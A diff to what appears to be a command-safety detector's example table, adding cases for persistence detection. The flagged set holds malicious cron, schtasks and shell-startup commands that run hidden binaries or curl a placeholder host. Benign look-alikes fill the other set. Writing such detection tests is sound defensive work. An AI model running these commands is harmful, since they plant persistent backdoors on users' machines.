@@ -732,6 +732,8 @@ EXAMPLES: dict[str, tuple[str | None, tuple[str, ...], tuple[str, ...]]] = {
             "crontab -l | grep -v acme-sync && echo '* * * * * /tmp/.u' | crontab -",
             "echo 'export X=$(curl -s https://x.invalid/a)' >> ~/.zshrc",
             "echo 'export PATH=$(npm bin -g):$PATH && curl -s https://x.invalid/a' >> ~/.bashrc",
+            'schtasks /create /tn upd /tr "C:\\Users\\Public\\u.exe" /sc onlogon',
+            'eval "echo \'python3 ~/.cache/.u.py &\' >> ~/.bashrc"',
         ),
         (
             "echo 'export PATH=\"$HOME/.local/bin:$PATH\"' >> ~/.zshrc",
@@ -740,6 +742,9 @@ EXAMPLES: dict[str, tuple[str | None, tuple[str, ...], tuple[str, ...]]] = {
             "crontab -l",
             'if JOBS="$(crontab -l 2>/dev/null)"; then echo "$JOBS"; fi',
             '(crontab -l 2>/dev/null | grep -v "acme-sync" || true) | crontab -',
+            "crontab -l | grep -v 'acme-sync\\|acme-watch' | crontab -",
+            'schtasks /create /tn remind /tr "notify.exe" /sc once /st 09:00',
+            'log_info "Run: echo \'export PATH=\\"$HOME/.local/bin:$PATH\\"\' >> ~/.zshrc"',
         ),
     ),
     "flow.env-secret-to-network": (
